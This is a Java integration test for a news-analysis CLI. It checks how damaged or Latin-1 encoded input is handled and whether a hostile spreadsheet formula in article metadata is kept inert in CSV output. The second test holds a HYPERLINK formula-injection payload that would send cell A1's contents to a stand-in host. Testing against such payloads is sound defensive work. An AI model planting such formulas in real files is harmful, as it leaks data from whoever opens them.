package org.summitcoverage.run;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.summitcoverage.cli.Main;

import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Issue 20 through a whole `analyze` run: damaged encodings keep their roles and say so; formulas stay inert. */
class ReliabilityIT {
    private static final String TEXT = "Le sommet de la CEDEAO s'est achevé samedi à Lomé. Le Sénégal, le Ghana et "
            + "la Côte d'Ivoire ont signé la déclaration finale. Le Mali a refusé de la signer. La réunion était "
            + "présidée par le Togo, pays hôte, qui a salué « un accord équilibré ».";

    @TempDir
    Path tmp;

    private static List<String> roles(Path out, String articleId) throws IOException {
        List<String> out2 = new ArrayList<>();
        for (CSVRecord r : OutputCsv.records(out.resolve("roles.csv"))) {
            if (r.get("article_id").equals(articleId)) {
                out2.add(r.get("role") + " " + r.get("entity_id"));
            }
        }
        out2.sort(null);
        return out2;
    }

    private static CSVRecord article(Path out, String id) throws IOException {
        return OutputCsv.records(out.resolve("articles.csv")).stream().filter(r -> r.get("article_id").equals(id)).findFirst()
                .orElseThrow(() -> new AssertionError("no row " + id));
    }

    /** Case 7: eight bad bytes do not turn a UTF-8 file into mojibake; a Latin-1 record keeps its accents. */
    @Test
    void damagedOrLatin1InputsKeepTheirRolesAndTheRowSaysWhatWasLost() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("corpus"));
        Files.writeString(c.resolve("propre.txt"), TEXT);
        byte[] clean = TEXT.getBytes(StandardCharsets.UTF_8);
        int cut = TEXT.indexOf(" Le Mali");
        byte[] damaged = new byte[clean.length + 8];
        System.arraycopy(clean, 0, damaged, 0, cut);
        for (int i = 0; i < 8; i++) {
            damaged[cut + i] = (byte) (0xF8 + (i % 4));
        }
        System.arraycopy(clean, cut, damaged, cut + 8, clean.length - cut);
        Files.write(c.resolve("abime.txt"), damaged);
        String record = "{\"id\": \"depeche\", \"text\": " + new ObjectMapper().writeValueAsString(TEXT) + "}\n";
        Files.write(c.resolve("fil.jsonl"), record.getBytes(Charset.forName("ISO-8859-1")));
        Path out = tmp.resolve("out");
        assertEquals(ExitCodes.OK, Main.execute("analyze", c.toString(), "--out", out.toString(), "--quiet"));
        List<String> expected = roles(out, "propre");
        assertTrue(expected.contains("SIGNATORY country:SN"), expected.toString());
        assertEquals(expected, roles(out, "abime"));
        assertEquals(expected, roles(out, "depeche"));
        assertEquals("ok", article(out, "abime").get("status"));
        assertEquals("decoded as UTF-8 with 8 invalid bytes replaced by U+FFFD", article(out, "abime").get("reason"));
        assertEquals("", article(out, "propre").get("reason"));
    }

    /** Case 6: a hostile title lands in the CSV as text, verbatim in the JSON Lines and in the report. */
    @Test
    void aFormulaInTheMetadataIsInertInTheCsvAndVerbatimElsewhere() throws IOException {
        Path c = Files.createDirectories(tmp.resolve("corpus"));
        Files.writeString(c.resolve("lome.txt"), TEXT);
        String title = "=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"Sommet de Lomé\")";
        Files.writeString(c.resolve("lome.meta.json"), "{\"title\": " + new ObjectMapper().writeValueAsString(title)
                + ", \"source\": \"@agence\", \"url\": \"https://exemple.invalid/lome\"}");
        Path out = tmp.resolve("out");
        assertEquals(ExitCodes.OK, Main.execute("analyze", c.toString(), "--out", out.toString(), "--quiet"));
        assertEquals("'" + title, article(out, "lome").get("title"));
        assertEquals("'@agence", article(out, "lome").get("source"));
        JsonNode line = new ObjectMapper().readTree(Files.readAllLines(out.resolve("articles.jsonl")).get(0));
        assertEquals(title, line.path("title").asText());
        String report = Jsoup.parse(out.resolve("report.html").toFile(), "UTF-8").text();
        assertTrue(report.contains(title), "the report shows the title as written");
        assertFalse(report.contains("'" + title));
    }
}
